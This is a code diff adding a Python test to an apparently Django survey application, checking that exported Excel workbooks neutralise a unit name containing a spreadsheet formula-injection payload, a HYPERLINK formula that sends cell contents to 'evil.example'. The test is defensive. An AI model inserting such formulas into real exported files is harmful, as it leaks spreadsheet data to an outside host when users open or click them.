@@ -379,3 +379,26 @@ def test_it_adds_and_removes_raters_while_open(evaluation: CrossEvaluation, cw: 
     assert not CrossRater.objects.filter(pk=town.pk).exists()
     assert not CrossRating.objects.exists()
     assert Client().get(public(town)).status_code == 404
+
+
+def test_it_writes_hostile_unit_names_into_the_files_as_text(cw: CrossWorld) -> None:
+    org = cw.world.org
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    org_services.unit_save(
+        unit=Unit(code="A9", name=formula + "\u0001", category=org.township, region=org.county_a)
+    )
+    hostile = Unit.objects.get(code="A9")
+    evaluation = make_cross(cw, rater_units=[org.unit_a2, hostile])
+    evaluation.rated.add(hostile)  # (a town rating itself: 本单位不评)
+    client = client_for(cw.world.admin)
+    rater = rater_of(evaluation, "黎侯镇")  # its blank table lists the hostile town
+    for url in (
+        reverse("surveys:cross_results_xlsx", args=[evaluation.pk]),
+        reverse("surveys:cross_rater_blank", args=[evaluation.pk, rater.pk]),
+    ):
+        book = load_workbook(io.BytesIO(client.get(url).content))
+        cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
+        assert not any(cell.data_type == "f" for cell in cells), url
+        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
+        assert "'" + formula in texts, url
+        assert not any(text.startswith("=") or "\u0001" in text for text in texts), url
